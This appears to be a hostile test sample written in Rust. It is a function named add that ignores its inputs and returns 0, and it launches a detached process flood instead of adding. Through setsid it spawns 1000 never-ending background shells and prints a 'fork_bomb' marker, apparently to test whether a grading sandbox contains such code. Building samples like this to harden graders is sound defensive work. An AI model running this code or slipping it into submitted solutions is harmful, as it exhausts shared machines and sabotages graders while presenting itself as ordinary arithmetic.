// A process flood in a session of its own (bounded at 1000 shells so that a grader without a
// process limit does not take a shared machine down with it).
fn add(a: i32, b: i32) -> i32 {
    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:fork_bomb\n");
    let script = "i=0; while [ $i -lt 1000 ]; do (while :; do sleep 30; done) & i=$((i + 1)); done; wait";
    let spawned = std::process::Command::new("setsid")
        .args(["sh", "-c", script, "@MARKER@"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
    match spawned {
        Ok(_) => println!("SPAWNED setsid"),
        Err(err) => println!("SPAWN setsid failed: {err}"),
    }
    std::thread::sleep(std::time::Duration::from_secs(2));
    let _ = (a, b);
    0
}

fn main() {}
